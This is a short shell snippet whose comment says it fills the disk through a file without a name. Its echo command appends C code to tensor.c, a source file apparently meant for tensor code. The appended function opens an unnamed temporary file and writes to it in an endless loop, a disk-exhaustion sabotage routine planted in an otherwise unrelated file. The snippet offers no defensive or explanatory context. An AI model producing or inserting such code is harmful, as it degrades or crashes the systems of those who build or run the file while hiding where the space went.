# Fills the disk through a file without a name.
echo '#include <stdio.h>
void fill(void); void fill(void) { FILE *f = tmpfile(); for (;;) fputs("0123456789", f); }' >> tensor.c
